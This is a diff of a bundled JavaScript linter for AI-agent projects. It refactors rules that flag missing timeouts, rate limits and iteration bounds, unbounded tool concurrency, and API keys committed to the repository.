-var TRAILER = /(?:\s+|\*\/\}?|-->|#\}|%\}|%>|\\n"?,?|\\r|"\s*,?)$/;
-function parseSuppression(lineText, line) {
-  const idx = lineText.indexOf("agent-guard-ignore");
-  if (idx < 0) return null;
-  const rest = lineText.slice(idx + "agent-guard-ignore".length);
-  const m = RULE_LIST.exec(rest);
-  if (!m) return null;
-  const rules2 = m[1].split(",").map((s) => s.trim().replace(/-+$/, "")).filter(Boolean);
-  const after = rest.slice(m[0].length);
-  const colon = /^\s*:/.exec(after);
-  let reason = colon ? after.slice(colon[0].length) : "";
-  for (let prev = ""; prev !== reason; ) {
-    prev = reason;
-    reason = reason.replace(TRAILER, "");
-  }
-  return { rules: rules2, reason: reason.trim(), line };
-}
-function matches(rule2, ruleId) {
-  return rule2 === "*" || rule2 === ruleId || rule2.endsWith("/*") && ruleId.startsWith(rule2.slice(0, -1));
-}
-function inlineSuppressionFor(file, finding) {
-  for (const line of [finding.range.startLine, finding.range.startLine - 1]) {
-    if (line < 1) continue;
-    const s = parseSuppression(file.lineText(line), line);
-    if (s && s.rules.some((r2) => matches(r2, finding.ruleId))) return s;
-  }
-  return null;
-}
-var ConfigIgnores = class {
-  entries;
-  constructor(entries) {
-    this.entries = entries.map((e) => ({ rule: e.rule, match: (0, import_picomatch.default)(e.files, { dot: true }) }));
-  }
-  covers(finding) {
-    return this.entries.some((e) => matches(e.rule, finding.ruleId) && e.match(finding.path));
-  }
-};
-
-// src/core/types.ts
-var SEVERITY_RANK = { error: 3, warning: 2, note: 1 };
-var FAMILIES = ["secret", "tool-input", "rate-limit", "tool-payload"];
-function docsUrl(ruleId) {
-  return `${DOCS_BASE_URL}/${ruleId}.md`;
-}
-
-// src/engine/engine.ts
+// src/sources/working-tree.ts
 function workingTreeView(root, config, listAll) {
   let paths;
   return {
@@ -27493,10 +27431,76 @@ function workingTreeInput(root, paths, config) {
   };
 }
 function fileFilter(config) {
-  const include = config.include.length ? (0, import_picomatch2.default)(config.include, { dot: true }) : () => true;
-  const exclude = config.exclude.length ? (0, import_picomatch2.default)(config.exclude, { dot: true }) : () => false;
+  const include = config.include.length ? (0, import_picomatch.default)(config.include, { dot: true }) : () => true;
+  const exclude = config.exclude.length ? (0, import_picomatch.default)(config.exclude, { dot: true }) : () => false;
   return (p) => include(p) && !exclude(p);
 }
+
+// src/core/fingerprint.ts
+import { createHash } from "node:crypto";
+function normaliseLine(text) {
+  return text.replace(/\s+/g, " ").trim();
+}
+function fingerprintOf(parts2) {
+  const h = createHash("sha256");
+  h.update(`${parts2.ruleId}\0${parts2.path}\0${parts2.content}\0${parts2.occurrence}`);
+  return h.digest("hex").slice(0, 32);
+}
+function sha256(text) {
+  return createHash("sha256").update(text).digest("hex");
+}
+
+// src/engine/suppress.ts
+var import_picomatch2 = __toESM(require_picomatch2(), 1);
+var RULE_LIST = /^\s+([a-z0-9*][a-z0-9*/-]*(?:\s*,\s*[a-z0-9*][a-z0-9*/-]*)*)/;
+var TRAILER = /(?:\s+|\*\/\}?|-->|#\}|%\}|%>|\\n"?,?|\\r|"\s*,?)$/;
+function parseSuppression(lineText, line) {
+  const idx = lineText.indexOf("agent-guard-ignore");
+  if (idx < 0) return null;
+  const rest = lineText.slice(idx + "agent-guard-ignore".length);
+  const m = RULE_LIST.exec(rest);
+  if (!m) return null;
+  const rules2 = m[1].split(",").map((s) => s.trim().replace(/-+$/, "")).filter(Boolean);
+  const after = rest.slice(m[0].length);
+  const colon = /^\s*:/.exec(after);
+  let reason = colon ? after.slice(colon[0].length) : "";
+  for (let prev = ""; prev !== reason; ) {
+    prev = reason;
+    reason = reason.replace(TRAILER, "");
+  }
+  return { rules: rules2, reason: reason.trim(), line };
+}
+function matches(rule, ruleId) {
+  return rule === "*" || rule === ruleId || rule.endsWith("/*") && ruleId.startsWith(rule.slice(0, -1));
+}
+function inlineSuppressionFor(file, finding) {
+  for (const line of [finding.range.startLine, finding.range.startLine - 1]) {
+    if (line < 1) continue;
+    const s = parseSuppression(file.lineText(line), line);
+    if (s && s.rules.some((r2) => matches(r2, finding.ruleId))) return s;
+  }
+  return null;
+}
+var ConfigIgnores = class {
+  entries;
+  constructor(entries) {
+    this.entries = entries.map((e) => ({ rule: e.rule, match: (0, import_picomatch2.default)(e.files, { dot: true }) }));
+  }
+  covers(finding) {
+    return this.entries.some((e) => matches(e.rule, finding.ruleId) && e.match(finding.path));
+  }
+};
+
+// src/core/severity.ts
+var SEVERITY_RANK = { error: 3, warning: 2, note: 1 };
+
+// src/core/types.ts
+var FAMILIES = ["secret", "tool-input", "rate-limit", "tool-payload"];
+function docsUrl(ruleId) {
+  return `${DOCS_BASE_URL}/${ruleId}.md`;
+}
+
+// src/engine/engine.ts
 function loadRootAndConfig(paths, rules2, configFile) {
   const root = findRoot(paths[0] ?? ".");
   const config = loadConfig({ configFile, root: root.root, rules: rules2.map((r2) => r2.meta) });
@@ -27504,13 +27508,13 @@ function loadRootAndConfig(paths, rules2, configFile) {
 }
 function activeRules(rules2, config) {
   const out2 = [];
-  for (const rule2 of rules2) {
-    const setting = config.rules[rule2.meta.id];
+  for (const rule of rules2) {
+    const setting = config.rules[rule.meta.id];
     if (setting?.severity === "off") continue;
     out2.push({
-      rule: rule2,
-      severity: setting?.severity ?? rule2.meta.severity,
-      options: { ...rule2.meta.defaultOptions ?? {}, ...setting?.options ?? {} }
+      rule,
+      severity: setting?.severity ?? rule.meta.severity,
+      options: { ...rule.meta.defaultOptions ?? {}, ...setting?.options ?? {} }
     });
   }
   return out2;
@@ -27587,24 +27591,24 @@ async function mapLimit(items, limit, fn) {
   });
   await Promise.all(workers);
 }
-function toFinding(meta9, severity, path2, report3, lineText) {
-  let message = formatMessage(meta9.messages[report3.messageId] ?? report3.messageId, report3.data);
+function toFinding(meta, severity, path2, report3, lineText) {
+  let message = formatMessage(meta.messages[report3.messageId] ?? report3.messageId, report3.data);
   if (report3.secret) {
     globalRedactor.add(report3.secret);
     message = message.split(report3.secret).join(maskSecret(report3.secret));
   }
   const content = report3.fingerprintHint ?? (report3.secret ? `secret:${sha256(report3.secret)}` : normaliseLine(lineText));
   return {
-    ruleId: meta9.id,
-    family: meta9.family,
+    ruleId: meta.id,
+    family: meta.family,
     severity: report3.severity ?? severity,
     message,
     path: report3.path ?? path2,
     range: report3.range,
     related: report3.related ?? [],
     flow: report3.flow ?? [],
-    fix: meta9.fix,
-    helpUri: docsUrl(meta9.id),
+    fix: meta.fix,
+    helpUri: docsUrl(meta.id),
     ...report3.properties ? { properties: report3.properties } : {},
     fingerprintContent: content
   };
@@ -27675,7 +27679,7 @@ async function runRules(input, config, rules2, started = performance.now()) {
     if (applicable.length === 0) return;
     const memo = memoTable();
     const fileFindings = [];
-    for (const { rule: rule2, severity, options: ruleOptions } of applicable) {
+    for (const { rule, severity, options: ruleOptions } of applicable) {
       const context = {
         file,
         project,
@@ -27683,13 +27687,13 @@ async function runRules(input, config, rules2, started = performance.now()) {
         tree: () => trees.forFile(file),
         memo,
         report: (report3) => {
-          fileFindings.push(toFinding(rule2.meta, severity, file.path, report3, file.lineText(report3.range.startLine)));
+          fileFindings.push(toFinding(rule.meta, severity, file.path, report3, file.lineText(report3.range.startLine)));
         }
       };
       try {
-        await rule2.check(context);
+        await rule.check(context);
       } catch (err2) {
-        ruleErrors.push({ path: file.path, reason: `rule ${rule2.meta.id} failed: ${err2.message?.split("\n")[0] ?? String(err2)}` });
+        ruleErrors.push({ path: file.path, reason: `rule ${rule.meta.id} failed: ${err2.message?.split("\n")[0] ?? String(err2)}` });
       }
     }
     await trees.release(file);
@@ -27834,6 +27838,30 @@ function applyBaseline(result, baseline, scope = {}) {
     baselined,
     stale
   };
+}
+
+// src/core/define-rule.ts
+var RULE_ID = /^([a-z-]+)\/[a-z0-9]+(?:-[a-z0-9]+)*$/;
+function defineRule(definition2) {
+  const { id, severity, description, fix, messages: messages2, cwe, securitySeverity, precision, defaultOptions, optionsSchema, appliesTo, check, ...extra } = definition2;
+  const family = RULE_ID.exec(id)?.[1];
+  if (!family || !FAMILIES.includes(family)) throw new Error(`rule id "${id}" is not family/kebab-name with a family of ${FAMILIES.join(", ")}`);
+  if (!(securitySeverity >= 0 && securitySeverity <= 10)) throw new Error(`rule ${id}: securitySeverity ${securitySeverity} is outside 0.0\u201310.0`);
+  const meta = {
+    id,
+    family,
+    severity,
+    description,
+    fix,
+    messages: messages2,
+    cwe,
+    securitySeverity,
+    precision,
+    docs: docsUrl(id),
+    ...defaultOptions ? { defaultOptions } : {},
+    ...optionsSchema ? { optionsSchema } : {}
+  };
+  return { ...extra, meta, appliesTo, check };
 }
 
 // src/families/rate-limit/options.ts
@@ -28111,26 +28139,26 @@ function importedAs(text, module2, names) {
 // src/families/rate-limit/rules/client-without-timeout.ts
 var ID = "rate-limit/client-without-timeout";
 var CLIENTS = /^(openai\.|anthropic\.)?(Async)?(OpenAI|AzureOpenAI|Anthropic|AnthropicBedrock|AnthropicVertex|AnthropicFoundry)$/;
-var clientWithoutTimeout = {
-  meta: {
-    id: ID,
-    family: "rate-limit",
-    severity: "warning",
-    description: "OpenAI / Anthropic SDK clients created (or re-optioned with with_options / withOptions) with the request timeout removed (`timeout=None`, `httpx.Timeout(None)`, `timeout: Infinity`), above a configurable maximum, or with retries disabled (`max_retries=0`).",
-    fix: "Keep a finite request timeout (the SDK default is 10 minutes) and the default retries with backoff.",
-    messages: {
-      noTimeout: "{{client}} is created with `{{param}}` removed ({{value}}): a hung request holds the agent forever; pass a finite `{{param}}` (seconds{{unit}})",
-      longTimeout: "{{client}} has `{{param}}` = {{value}}, above the maximum of {{max}} s: lower `{{param}}`",
-      noRetries: "{{client}} is created with `{{param}}=0`: rate-limit (429) and overload responses fail instead of backing off; keep `{{param}}` at 2 or more"
-    },
-    defaultOptions: { maxTimeoutSeconds: 900, flagRetriesDisabled: true },
-    optionsSchema: {
-      properties: {
-        maxTimeoutSeconds: { type: "number", minimum: 1, description: "Highest accepted client timeout, in seconds (JS values are milliseconds and are converted)." },
-        flagRetriesDisabled: { type: "boolean", description: "Report max_retries=0 / maxRetries: 0." }
-      }
+var client_without_timeout_default = defineRule({
+  id: ID,
+  severity: "warning",
+  description: "OpenAI / Anthropic SDK clients created (or re-optioned with with_options / withOptions) with the request timeout removed (`timeout=None`, `httpx.Timeout(None)`, `timeout: Infinity`), above a configurable maximum, or with retries disabled (`max_retries=0`).",
+  fix: "Keep a finite request timeout (the SDK default is 10 minutes) and the default retries with backoff.",
+  messages: {
+    noTimeout: "{{client}} is created with `{{param}}` removed ({{value}}): a hung request holds the agent forever; pass a finite `{{param}}` (seconds{{unit}})",
+    longTimeout: "{{client}} has `{{param}}` = {{value}}, above the maximum of {{max}} s: lower `{{param}}`",
+    noRetries: "{{client}} is created with `{{param}}=0`: rate-limit (429) and overload responses fail instead of backing off; keep `{{param}}` at 2 or more"
+  },
+  defaultOptions: { maxTimeoutSeconds: 900, flagRetriesDisabled: true },
+  optionsSchema: {
+    properties: {
+      maxTimeoutSeconds: { type: "number", minimum: 1, description: "Highest accepted client timeout, in seconds (JS values are milliseconds and are converted)." },
+      flagRetriesDisabled: { type: "boolean", description: "Report max_retries=0 / maxRetries: 0." }
     }
   },
+  cwe: [1088],
+  securitySeverity: 4.3,
+  precision: "high",
   appliesTo: (file) => file.isCode && /OpenAI|Anthropic/.test(file.text) && /timeout|max_retries|maxRetries/i.test(file.text),
   async check(ctx) {
     const parsed = await ctx.tree();
@@ -28152,7 +28180,7 @@ var clientWithoutTimeout = {
       }
     }
   }
-};
+});
 function bindingName(call) {
   const p = call.parent?.type === "await_expression" ? call.parent.parent : call.parent;
   if (p?.type === "assignment") return p.childForFieldName("left")?.text ?? null;
@@ -28201,24 +28229,24 @@ var ID2 = "rate-limit/gateway-without-limits";
 var GLOBAL_LIMIT_KEY = /^(default_)?max_parallel_requests$|^global_max_parallel_requests$|^(default_)?(rpm|tpm)(_limit)?$/;
 var GLOBAL_SECTIONS = ["router_settings", "litellm_settings", "general_settings"];
 var ENTRY_LIMIT_KEY = /^(rpm|tpm|max_parallel_requests)$/;
-var gatewayWithoutLimits = {
-  meta: {
-    id: ID2,
-    family: "rate-limit",
-    severity: "warning",
-    description: "LiteLLM proxy configs whose model_list entries have neither rpm nor tpm while no router or proxy-wide limit is set, and (as a note) CrewAI agents with no max_rpm on the agent or its crew.",
-    fix: "Give each model_list entry litellm_params.rpm / tpm, or set a proxy-wide limit (litellm_settings.max_parallel_requests, general_settings.global_max_parallel_requests, router_settings); give CrewAI agents or their Crew max_rpm.",
-    messages: {
-      entry: "LiteLLM model_list entry `{{model}}` has neither `litellm_params.rpm` nor `litellm_params.tpm`, and the proxy sets no global limit: add `rpm:` / `tpm:` under its litellm_params, or `max_parallel_requests` under litellm_settings (or `global_max_parallel_requests` under general_settings)",
-      crewai: "CrewAI Agent{{role}} has no `max_rpm=` and no Crew in the project sets one: add `max_rpm=` to the Agent or its Crew"
-    },
-    defaultOptions: { crewaiMaxRpm: true },
-    optionsSchema: {
-      properties: {
-        crewaiMaxRpm: { type: "boolean", description: "Report CrewAI Agent(...) calls without max_rpm (as notes)." }
-      }
+var gateway_without_limits_default = defineRule({
+  id: ID2,
+  severity: "warning",
+  description: "LiteLLM proxy configs whose model_list entries have neither rpm nor tpm while no router or proxy-wide limit is set, and (as a note) CrewAI agents with no max_rpm on the agent or its crew.",
+  fix: "Give each model_list entry litellm_params.rpm / tpm, or set a proxy-wide limit (litellm_settings.max_parallel_requests, general_settings.global_max_parallel_requests, router_settings); give CrewAI agents or their Crew max_rpm.",
+  messages: {
+    entry: "LiteLLM model_list entry `{{model}}` has neither `litellm_params.rpm` nor `litellm_params.tpm`, and the proxy sets no global limit: add `rpm:` / `tpm:` under its litellm_params, or `max_parallel_requests` under litellm_settings (or `global_max_parallel_requests` under general_settings)",
+    crewai: "CrewAI Agent{{role}} has no `max_rpm=` and no Crew in the project sets one: add `max_rpm=` to the Agent or its Crew"
+  },
+  defaultOptions: { crewaiMaxRpm: true },
+  optionsSchema: {
+    properties: {
+      crewaiMaxRpm: { type: "boolean", description: "Report CrewAI Agent(...) calls without max_rpm (as notes)." }
     }
   },
+  cwe: [770],
+  securitySeverity: 5.3,
+  precision: "high",
   appliesTo: (file) => (file.language === "yaml" || file.language === "json") && file.text.includes("model_list") && file.text.includes("litellm_params") || file.language === "python" && file.text.includes("crewai") && file.text.includes("Agent("),
   async check(ctx) {
     if (ctx.file.language === "python") {
@@ -28227,7 +28255,7 @@ var gatewayWithoutLimits = {
     }
     checkLiteLlm(ctx, loadYaml());
   }
-};
+});
 function hasLimit({ isMap, isScalar }, map, key) {
   if (!isMap(map)) return false;
   return map.items.some((p) => isScalar(p.key) && key.test(String(p.key.value)) && !(isScalar(p.value) && (p.value.value === null || p.value.value === "")));
@@ -28338,26 +28366,26 @@ function suggestion(kw) {
   return "remove it or set the matching OrchestratorConfig field";
 }
 var LIMIT_LIKE = /max|limit|rate|timeout|concurren|parallel|backpressure|speculat|budget|deadline|throttl|quota|retr/;
-var orchestratorWithoutLimits = {
-  meta: {
-    id: ID3,
-    family: "rate-limit",
-    severity: "warning",
-    description: "async-toolformer-orchestrator set up without rate limits: an older-API AsyncOrchestrator(...) with no explicit RateLimitConfig, keyword arguments the constructor silently drops, or newer-API @registry.tool(...) tools with neither calls_per_min nor timeout_s while run() gets no default_timeout_s.",
-    fix: "Pass rate_limit_config=RateLimitConfig(...) (older API) or give each @registry.tool(...) calls_per_min= / timeout_s= (newer API), and spell keyword arguments as OrchestratorConfig fields.",
-    messages: {
-      noRateLimit: "`{{call}}` gets no explicit RateLimitConfig, so it runs on the library default: pass `rate_limit_config=RateLimitConfig(global_max=..., service_limits=...)`{{where}}",
-      droppedKwarg: "`{{name}}=` is silently dropped by AsyncOrchestrator (OrchestratorConfig has no `{{name}}` field, so the limit it suggests does not exist): {{suggestion}}",
-      toolNoLimits: "tool `{{tool}}` is registered with neither `calls_per_min=` nor `timeout_s=`, and no AsyncOrchestrator.run() passes `default_timeout_s=`: add `calls_per_min=` and `timeout_s=` to `{{decorator}}`"
-    },
-    defaultOptions: { classNames: ["AsyncOrchestrator"], checkDroppedKwargs: true },
-    optionsSchema: {
-      properties: {
-        classNames: { type: "array", items: { type: "string" }, description: "Class names treated as the async-toolformer orchestrator." },
-        checkDroppedKwargs: { type: "boolean", description: "Report keyword arguments the older-API constructor silently drops." }
-      }
+var orchestrator_without_limits_default = defineRule({
+  id: ID3,
+  severity: "warning",
+  description: "async-toolformer-orchestrator set up without rate limits: an older-API AsyncOrchestrator(...) with no explicit RateLimitConfig, keyword arguments the constructor silently drops, or newer-API @registry.tool(...) tools with neither calls_per_min nor timeout_s while run() gets no default_timeout_s.",
+  fix: "Pass rate_limit_config=RateLimitConfig(...) (older API) or give each @registry.tool(...) calls_per_min= / timeout_s= (newer API), and spell keyword arguments as OrchestratorConfig fields.",
+  messages: {
+    noRateLimit: "`{{call}}` gets no explicit RateLimitConfig, so it runs on the library default: pass `rate_limit_config=RateLimitConfig(global_max=..., service_limits=...)`{{where}}",
+    droppedKwarg: "`{{name}}=` is silently dropped by AsyncOrchestrator (OrchestratorConfig has no `{{name}}` field, so the limit it suggests does not exist): {{suggestion}}",
+    toolNoLimits: "tool `{{tool}}` is registered with neither `calls_per_min=` nor `timeout_s=`, and no AsyncOrchestrator.run() passes `default_timeout_s=`: add `calls_per_min=` and `timeout_s=` to `{{decorator}}`"
+  },
+  defaultOptions: { classNames: ["AsyncOrchestrator"], checkDroppedKwargs: true },
+  optionsSchema: {
+    properties: {
+      classNames: { type: "array", items: { type: "string" }, description: "Class names treated as the async-toolformer orchestrator." },
+      checkDroppedKwargs: { type: "boolean", description: "Report keyword arguments the older-API constructor silently drops." }
     }
   },
+  cwe: [770],
+  securitySeverity: 5.3,
+  precision: "high",
   appliesTo: (file) => file.language === "python" && /AsyncOrchestrator|ToolRegistry|ToolSpec|async_toolformer/.test(file.text),
   async check(ctx) {
     const parsed = await ctx.tree();
@@ -28402,7 +28430,7 @@ var orchestratorWithoutLimits = {
       ctx.report({ messageId: "toolNoLimits", data: { tool: t.tool, decorator: t.decorator }, range: ctx.file.rangeOf(t.node.startIndex, t.node.endIndex) });
     }
   }
-};
+});
 function hasValue(kw, key) {
   const v = kw.get(key);
   return !!v && !isNoneLike(v.value);
@@ -28672,29 +28700,29 @@ function checkBound(c, valueNode, at2, param, framework, max, noneRemoves, execT
   if (v === null || v <= max) return;
   reportValue(c, at2, "raised", { param, framework, value: describe2(v), max });
 }
-var unboundedAgentLoop = {
-  meta: {
-    id: ID4,
-    family: "rate-limit",
-    severity: "warning",
-    description: "Agent loops whose iteration bound is removed or raised past a configurable maximum (LangChain max_iterations, LangGraph recursion_limit, OpenAI Agents max_turns, CrewAI max_iter, smolagents max_steps, Vercel AI SDK stopWhen/maxSteps) and hand-written `while True` loops that call a model and run tools with no counter or deadline.",
-    fix: "Keep a finite bound at or below the configured maximum (or add a wall-clock limit such as max_execution_time), and give hand-written loops a step counter or deadline.",
-    messages: {
-      removed: "{{framework}}: `{{param}}` removes the iteration bound: set `{{param}}` to a number at most {{max}}",
-      removedNoTime: "{{framework}}: `{{param}}=None` removes the iteration bound and no `max_execution_time` is set: set `{{param}}` (at most {{max}}) or `max_execution_time`",
-      raised: "{{framework}}: `{{param}}` is {{value}}, above the maximum of {{max}}: lower `{{param}}`",
-      stopWhenNoCount: "{{framework}}: `stopWhen` has no step-count condition, so the tool loop runs until the model stops: add `stepCountIs(n)` (n at most {{max}}) to `stopWhen`",
-      whileTrue: "Hand-written agent loop `{{loop}}` calls a model ({{model}}) and runs tools with no step counter or deadline: add a maximum step count (e.g. `for step in range(MAX_STEPS)`) or a deadline check"
-    },
-    defaultOptions: { maxIterations: 50, maxRecursionLimit: 100, checkHandWrittenLoops: true },
-    optionsSchema: {
-      properties: {
-        maxIterations: { type: "integer", minimum: 1, description: "Highest accepted max_iterations / max_iter / max_steps / max_turns / maxSteps / maxTurns / stepCountIs(n)." },
-        maxRecursionLimit: { type: "integer", minimum: 1, description: "Highest accepted LangGraph recursion_limit / recursionLimit (super-steps; LangGraph counts about two per tool round)." },
-        checkHandWrittenLoops: { type: "boolean", description: "Also flag `while True:` / `while (true)` / `for (;;)` loops that call a model and run tools with no counter or deadline." }
-      }
+var unbounded_agent_loop_default = defineRule({
+  id: ID4,
+  severity: "warning",
+  description: "Agent loops whose iteration bound is removed or raised past a configurable maximum (LangChain max_iterations, LangGraph recursion_limit, OpenAI Agents max_turns, CrewAI max_iter, smolagents max_steps, Vercel AI SDK stopWhen/maxSteps) and hand-written `while True` loops that call a model and run tools with no counter or deadline.",
+  fix: "Keep a finite bound at or below the configured maximum (or add a wall-clock limit such as max_execution_time), and give hand-written loops a step counter or deadline.",
+  messages: {
+    removed: "{{framework}}: `{{param}}` removes the iteration bound: set `{{param}}` to a number at most {{max}}",
+    removedNoTime: "{{framework}}: `{{param}}=None` removes the iteration bound and no `max_execution_time` is set: set `{{param}}` (at most {{max}}) or `max_execution_time`",
+    raised: "{{framework}}: `{{param}}` is {{value}}, above the maximum of {{max}}: lower `{{param}}`",
+    stopWhenNoCount: "{{framework}}: `stopWhen` has no step-count condition, so the tool loop runs until the model stops: add `stepCountIs(n)` (n at most {{max}}) to `stopWhen`",
+    whileTrue: "Hand-written agent loop `{{loop}}` calls a model ({{model}}) and runs tools with no step counter or deadline: add a maximum step count (e.g. `for step in range(MAX_STEPS)`) or a deadline check"
+  },
+  defaultOptions: { maxIterations: 50, maxRecursionLimit: 100, checkHandWrittenLoops: true },
+  optionsSchema: {
+    properties: {
+      maxIterations: { type: "integer", minimum: 1, description: "Highest accepted max_iterations / max_iter / max_steps / max_turns / maxSteps / maxTurns / stepCountIs(n)." },
+      maxRecursionLimit: { type: "integer", minimum: 1, description: "Highest accepted LangGraph recursion_limit / recursionLimit (super-steps; LangGraph counts about two per tool round)." },
+      checkHandWrittenLoops: { type: "boolean", description: "Also flag `while True:` / `while (true)` / `for (;;)` loops that call a model and run tools with no counter or deadline." }
     }
   },
+  cwe: [834],
+  securitySeverity: 5.3,
+  precision: "high",
   appliesTo: (file) => file.isCode && /max_iterations|recursion_limit|recursionLimit|max_turns|maxTurns|max_iter|max_steps|maxSteps|maxIterations|stopWhen|while\s*\(?\s*(True|true|1)\b|for\s*\(\s*;\s*;\s*\)/.test(file.text),
   async check(ctx) {
     const parsed = await ctx.tree();
@@ -28738,7 +28766,7 @@ var unboundedAgentLoop = {
       }
     }
   }
-};
+});
 function pyCall(c, call, text) {
   const callee = calleeText(call);
   const kw = pyKwargs(call);
@@ -29032,26 +29060,26 @@ function report2(ctx, at2, messageId, fn, reach, iterable) {
     related: reach.node.startIndex < at2.startIndex || reach.node.startIndex > at2.endIndex ? [{ path: ctx.file.path, range: ctx.file.rangeOf(reach.node.startIndex, reach.node.endIndex), message: `the ${reach.call.kind} call fanned out` }] : void 0
   });
 }
-var unboundedToolConcurrency = {
-  meta: {
-    id: ID5,
-    family: "rate-limit",
-    severity: "warning",
-    description: "asyncio.gather / asyncio.wait / TaskGroup loops and Promise.all / allSettled that start one model or tool call per item of a data-built collection with no semaphore, p-limit / p-queue / Bottleneck or bounded pool on the path.",
-    fix: "Bound the fan-out: take an asyncio.Semaphore inside the gathered coroutine, or wrap each JS call in p-limit / p-queue / Bottleneck.",
-    messages: {
-      python: "{{fn}} starts one {{kind}} call ({{callee}}) per item of `{{iterable}}` with no concurrency bound: take an asyncio.Semaphore inside the gathered coroutine (`async with sem:`) or use a bounded worker pool",
-      taskGroup: "{{fn}} in a loop over `{{iterable}}` starts one {{kind}} call ({{callee}}) per item with no concurrency bound: take an asyncio.Semaphore inside the task (`async with sem:`) or use a bounded worker pool",
-      js: "{{fn}} starts one {{kind}} call ({{callee}}) per item of `{{iterable}}` at once: wrap each call in a limiter (p-limit `limit(() => \u2026)`, p-queue `queue.add(\u2026)` or Bottleneck `limiter.schedule(\u2026)`)"
-    },
-    defaultOptions: { maxFixedFanOut: 10, extraCallPatterns: [] },
-    optionsSchema: {
-      properties: {
-        maxFixedFanOut: { type: "integer", minimum: 0, description: "A literal list or range(N) of at most this many items counts as a fixed, bounded fan-out." },
-        extraCallPatterns: { type: "array", items: { type: "string" }, description: 'Regular expressions over callee text (e.g. "^myclient\\\\.ask$") that also count as model/tool calls.' }
-      }
+var unbounded_tool_concurrency_default = defineRule({
+  id: ID5,
+  severity: "warning",
+  description: "asyncio.gather / asyncio.wait / TaskGroup loops and Promise.all / allSettled that start one model or tool call per item of a data-built collection with no semaphore, p-limit / p-queue / Bottleneck or bounded pool on the path.",
+  fix: "Bound the fan-out: take an asyncio.Semaphore inside the gathered coroutine, or wrap each JS call in p-limit / p-queue / Bottleneck.",
+  messages: {
+    python: "{{fn}} starts one {{kind}} call ({{callee}}) per item of `{{iterable}}` with no concurrency bound: take an asyncio.Semaphore inside the gathered coroutine (`async with sem:`) or use a bounded worker pool",
+    taskGroup: "{{fn}} in a loop over `{{iterable}}` starts one {{kind}} call ({{callee}}) per item with no concurrency bound: take an asyncio.Semaphore inside the task (`async with sem:`) or use a bounded worker pool",
+    js: "{{fn}} starts one {{kind}} call ({{callee}}) per item of `{{iterable}}` at once: wrap each call in a limiter (p-limit `limit(() => \u2026)`, p-queue `queue.add(\u2026)` or Bottleneck `limiter.schedule(\u2026)`)"
+  },
+  defaultOptions: { maxFixedFanOut: 10, extraCallPatterns: [] },
+  optionsSchema: {
+    properties: {
+      maxFixedFanOut: { type: "integer", minimum: 0, description: "A literal list or range(N) of at most this many items counts as a fixed, bounded fan-out." },
+      extraCallPatterns: { type: "array", items: { type: "string" }, description: 'Regular expressions over callee text (e.g. "^myclient\\\\.ask$") that also count as model/tool calls.' }
     }
   },
+  cwe: [770],
+  securitySeverity: 5.3,
+  precision: "medium",
   appliesTo: (file) => file.isCode && /gather|asyncio\.wait|as_completed|TaskGroup|task_group|nursery|Promise\.(all|allSettled|any|race)/.test(file.text),
   async check(ctx) {
     const parsed = await ctx.tree();
@@ -29089,7 +29117,7 @@ var unboundedToolConcurrency = {
       }
     }
   }
-};
+});
 function checkTaskGroup(ctx, a, w) {
   for (const item of w.descendantsOfType("with_item")) {
     const v = item?.childForFieldName("value");
@@ -29116,7 +29144,7 @@ function checkTaskGroup(ctx, a, w) {
 }
 
 // src/families/rate-limit/index.ts
-var rateLimitRules = [orchestratorWithoutLimits, unboundedToolConcurrency, unboundedAgentLoop, gatewayWithoutLimits, clientWithoutTimeout];
+var rateLimitRules = [orchestrator_without_limits_default, unbounded_tool_concurrency_default, unbounded_agent_loop_default, gateway_without_limits_default, client_without_timeout_default];
 
 // src/families/secret/fake-keys.ts
 function seededRng(seed) {
@@ -29392,9 +29420,12 @@ function placeholderReason(secret) {
 }
 
 // src/families/secret/rule-meta.ts
-function secretRuleMeta(id, description, fix, messages2) {
-  return { id, family: "secret", severity: "error", description, fix, messages: messages2 };
-}
+var SECRET_RULE_BASICS = {
+  severity: "error",
+  cwe: [798],
+  securitySeverity: 8.8,
+  precision: "high"
+};
 
 // src/families/secret/secretlint.ts
 var PRESET_ID = "@secretlint/secretlint-rule-preset-recommend";
@@ -29591,13 +29622,12 @@ function providerKeyRule(spec) {
   const shapes = spec.shapes.map(compile);
   const prefilter = spec.prefilter;
   const applies = prefilter instanceof RegExp ? (text) => prefilter.test(text) : (text) => prefilter.some((p) => typeof p === "string" ? text.includes(p) : p.test(text));
-  return {
-    meta: secretRuleMeta(
-      spec.id,
-      spec.description,
-      `Revoke the ${spec.provider} key in the provider's console, then load it from the environment or a secret store instead of the repository.`,
-      { key: `${spec.provider} {{kind}} committed: {{masked}}` }
-    ),
+  return defineRule({
+    ...SECRET_RULE_BASICS,
+    id: spec.id,
+    description: spec.description,
+    fix: `Revoke the ${spec.provider} key in the provider's console, then load it from the environment or a secret store instead of the repository.`,
+    messages: { key: `${spec.provider} {{kind}} committed: {{masked}}` },
     samples: spec.samples,
     shapes: spec.shapes,
     appliesTo: (file) => applies(file.text),
@@ -29621,7 +29651,7 @@ function providerKeyRule(spec) {
         });
       }
     }
-  };
+  });
 }
 
 // src/families/secret/samples.ts
@@ -29646,7 +29676,7 @@ function referenceForms(envVar) {
 }
 
 // src/families/secret/rules/anthropic-api-key.ts
-var anthropicApiKey = providerKeyRule({
+var anthropic_api_key_default = providerKeyRule({
   id: "secret/anthropic-api-key",
   provider: "Anthropic",
   description: "Finds committed Anthropic keys: API keys (sk-ant-api03-\u2026), Admin API keys (sk-ant-admin01-\u2026) and OAuth tokens (sk-ant-oat01-\u2026).",
@@ -29674,7 +29704,7 @@ var anthropicApiKey = providerKeyRule({
 
 // src/families/secret/rules/azure-openai-api-key.ts
 var AZURE = /azure|cognitiveservices/i;
-var azureOpenaiApiKey = providerKeyRule({
+var azure_openai_api_key_default = providerKeyRule({
   id: "secret/azure-openai-api-key",
   provider: "Azure OpenAI",
   description: "Finds committed Azure OpenAI / Azure AI services keys (32 hex digits, or 84 alphanumerics) next to an Azure env var, client or endpoint.",
@@ -29714,7 +29744,7 @@ var azureOpenaiApiKey = providerKeyRule({
 
 // src/families/secret/rules/cohere-api-key.ts
 var COHERE = /cohere|\bCO_API_KEY\b/i;
-var cohereApiKey = providerKeyRule({
+var cohere_api_key_default = providerKeyRule({
   id: "secret/cohere-api-key",
   provider: "Cohere",
   description: "Finds committed Cohere API keys (40 alphanumerics) next to a Cohere env var, client or endpoint.",
@@ -29744,7 +29774,7 @@ var cohereApiKey = providerKeyRule({
 
 // src/families/secret/rules/deepseek-api-key.ts
 var DEEPSEEK = /deepseek/i;
-var deepseekApiKey = providerKeyRule({
+var deepseek_api_key_default = providerKeyRule({
